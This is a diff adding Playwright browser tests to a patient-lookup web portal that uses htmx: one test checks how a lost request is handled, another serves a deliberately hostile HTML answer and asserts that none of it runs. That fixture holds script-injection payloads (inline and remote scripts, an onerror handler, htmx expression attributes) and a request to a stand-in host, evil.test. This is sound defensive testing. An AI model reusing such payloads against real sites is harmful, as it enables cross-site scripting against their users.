@@ -5,8 +5,10 @@ At two widths and in both languages: no violation of axe on any page, no other h
 
 from __future__ import annotations
 
+import re
+
 import pytest
-from playwright.sync_api import Browser, expect
+from playwright.sync_api import Browser, Page, Route, expect
 
 from rempart.portal import session
 from support.fake_doors import Person
@@ -16,6 +18,9 @@ from support.seats import COOKIE, LANGUAGES, Seat, World, browser, seat, world
 __all__ = ["browser", "seat", "world"]
 
 pytestmark = [pytest.mark.browser]
+KEPT = """caches.keys().then((all) =>
+  [history.length, history.state, sessionStorage.length, localStorage.length, all.length])"""
+"""What a browser could keep of a page: its history with a state, both storages, caches of a worker."""
 
 
 def authenticator(seat: Seat, *, verified: bool = True) -> None:
@@ -142,6 +147,73 @@ def test_a_code_that_is_not_known_is_told_on_the_page(seat: Seat) -> None:
     seat.page.wait_for_selector("main .notice:not([hidden])")
     assert seat.page.input_value("#code") == ""
     seat.sound()
+
+
+def held_back(page: Page) -> list[Route]:
+    """Questions that are asked, each waiting to be let through or lost."""
+    found: list[Route] = []
+    page.route("**/patient", lambda one: found.append(one) if one.request.method == "POST" else one.fallback())
+    return found
+
+
+def test_a_question_is_sent_once_and_its_loss_loses_nothing(seat: Seat) -> None:
+    """The button waits; a second press sends nothing; no answer is told calmly, and what was typed is asked again."""
+    page = seat.page
+    seat.signed_in(ONE)
+    seat.open("/patient")
+    before = page.evaluate(KEPT)
+    waiting, button = held_back(page), page.locator("main button.main")
+    seat.fill()
+    seat.press()
+    expect(button).to_have_attribute("aria-disabled", "true")
+    expect(button).to_have_text("La réponse arrive…")
+    page.press("#nir", "Enter")
+    waiting.pop().abort()
+    expect(page.locator("#answer-title")).to_have_text(re.compile("n’est pas arrivée"))
+    expect(page.locator("#answer")).to_be_focused()
+    expect(button).not_to_have_attribute("aria-disabled", "true")
+    assert page.input_value("#member") == CARD["member"]
+    page.unroute("**/patient")
+    seat.said.clear()  # Chromium's own word for the answer that was lost
+    seat.press()
+    page.wait_for_selector("#accreditation")
+    assert [url for url in seat.asked if url.endswith("/patient")] == [seat.world.base + "/patient"] * 3
+    assert page.evaluate(KEPT) == before == [2, None, 0, 0, 0]
+    seat.sound()
+
+
+HOSTILE = """<!DOCTYPE html><html><head><title>Hostile</title></head><body><header class="bar"></header>
+<main id="content" tabindex="-1"><h1>Page</h1><section id="answer" tabindex="-1"><h2 id="answer-title">Hostile</h2>
+<script>window.hacked = "inline"</script><script src="/static/evil.js"></script>
+<img src="x" onerror="window.hacked = 'image'"><p hx-get="https://evil.test/" hx-trigger="load"></p>
+<p hx-on:htmx:load="window.hacked = 'on'" hx-get="/patient" hx-trigger="load[window.hacked = 'filter']"
+  hx-vals="js:{a: window.hacked = 'values'}"
+  hx-select="h1"></p></section></main></body></html>"""
+
+
+def test_a_hostile_answer_runs_nothing_and_asks_nobody(seat: Seat) -> None:
+    """Scripts, handlers, expressions and another host in what is swapped in: none has its way, and nothing is kept."""
+    page = seat.page
+    seat.signed_in(ONE)
+    seat.open("/patient")
+    page.route(
+        "**/static/evil.js", lambda one: one.fulfill(body="window.hacked = 'script'", content_type="text/javascript")
+    )
+    page.route(
+        "**/patient",
+        lambda one: (
+            one.fulfill(body=HOSTILE, content_type="text/html", headers={})
+            if one.request.method == "POST"
+            else one.fallback()
+        ),
+    )
+    seat.fill()
+    seat.press()
+    page.wait_for_selector("#answer h1")  # what htmx does at once in a new part was done
+    assert page.evaluate("window.hacked") is None
+    assert page.locator("#answer script").count() == 0
+    assert not [url for url in seat.asked if "evil" in url]
+    assert page.evaluate(KEPT) == [2, None, 0, 0, 0]
 
 
 def test_the_form_is_used_by_keyboard_alone(seat: Seat) -> None:
